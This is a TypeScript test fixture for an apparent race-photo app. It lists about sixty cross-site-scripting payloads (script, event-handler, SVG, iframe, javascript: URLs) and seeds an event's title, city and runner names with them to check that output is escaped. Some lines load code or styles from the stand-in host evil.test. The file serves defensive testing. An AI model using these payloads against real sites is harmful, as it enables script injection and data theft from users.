import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { projectRoot } from '../../../server/platform/root.ts'
import type { Installation } from '../processes/installation.ts'

const script = 'window.executed=1'

/** Texts that would run a script or leave the page where they were inserted as markup. */
export const hostileTexts: readonly string[] = [
  `<script>${script}</script>`,
  `</title><script>${script}</script>`,
  `</script><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `</style><script>${script}</script>`,
  `--><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `"><script>${script}</script>`,
  `'><script>${script}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script src="data:text/javascript,${script}"></script>`,
  `<SCRIPT>${script}</SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script type=module>${script}</script>`,
  `<script\t>${script}</script\t>`,
  `<img src=x onerror=${script}>`,
  `"><img src=x onerror=${script}>`,
  `'><img src=x onerror=${script}>`,
  `<img src=x onerror="${script}"//`,
  `<IMG SRC="javascript:${script}">`,
  `<img srcset=x onerror=${script}>`,
  `<img/src=x/onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onload to=${script}>`,
  `<math><mtext><img src=x onerror=${script}></mtext></math>`,
  `<body onload=${script}>`,
  `<body onpageshow=${script}>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe src="javascript:parent.${script}"></iframe>`,
  `<iframe onload=${script}></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<a href="javascript:${script}" autofocus onfocus=${script}>x</a>`,
  `<a href="data:text/html,<script>opener.${script}</script>">x</a>`,
  `<form action="javascript:${script}"><button autofocus onfocus=${script}>x</button></form>`,
  `<input autofocus onfocus=${script}>`,
  `" autofocus onfocus="${script}`,
  `' autofocus onfocus='${script}`,
  `" onmouseover="${script}" x="`,
  `<select autofocus onfocus=${script}></select>`,
  `<textarea autofocus onfocus=${script}></textarea>`,
  `<details open ontoggle=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}></audio>`,
  `<marquee onstart=${script}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<base href="//evil.test/">`,
  `<link rel=stylesheet href="//evil.test/x.css">`,
  `<style>@import "//evil.test/x.css";</style>`,
  `<div style="background:url(javascript:${script})">`,
  `<p style="animation:x" onanimationstart=${script}>x`,
  `<template shadowrootmode=open><img src=x onerror=${script}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<b onclick=${script}>{{constructor.constructor('${script}')()}}</b>`,
  `\${${script}} #{${script}} <%= ${script} %>`,
  `javascript:${script}`,
  `&lt;script&gt;${script}&lt;/script&gt;&#60;img src=x onerror=${script}&#62;`,
]

const textsPerEvent = 10

/** Returns the texts in groups, each for one event. */
export const groupHostileTexts = (): string[][] =>
  Array.from({ length: Math.ceil(hostileTexts.length / textsPerEvent) }, (_, group) =>
    hostileTexts.slice(group * textsPerEvent, (group + 1) * textsPerEvent),
  )

/** Bib of the runner whose name is the first text of an event. */
export const hostileRunnerBib = '128'

/**
 * Creates an event of today with the texts in its title, city, distance and point, a runner named by each text, and a photo.
 *
 * @param server runs command lines, and returns the last line of their output
 * @returns the id of the event, and its title
 */
export async function createHostileEvent(
  server: Pick<Installation, 'runCommand'>,
  texts: readonly string[],
): Promise<{ eventId: string; title: string }> {
  const folder = await mkdtemp(join(tmpdir(), 'photofinish-markup-'))
  const text = texts.join(' ')
  const titles = ['--title', text, '--title-en', text, '--title-es', text]
  const place = ['--city', text, '--distance', text, '--point', `finish=${text}`]
  const eventId = await server.runCommand('event', 'create', ...titles, ...place)
  const runners = texts.map((each, at) => {
    // a name has at most 100 characters
    const quoted = `"${each.slice(0, 100).replaceAll('"', '""')}"`
    return `${Number(hostileRunnerBib) + at},${quoted},${quoted}`
  })
  const list = join(folder, 'list.csv')
  await writeFile(list, `bib,surname,name\n${runners.join('\n')}\n`)
  await server.runCommand('start-list', 'import', list, '--event', eventId)
  const photo = join(folder, 'A001.jpg')
  await copyFile(join(projectRoot, 'demo/photos-a/A001.jpg'), photo)
  await server.runCommand('ingest', folder, '--event', eventId, '--point', 'finish')
  await rm(folder, { recursive: true })
  return { eventId, title: text }
}
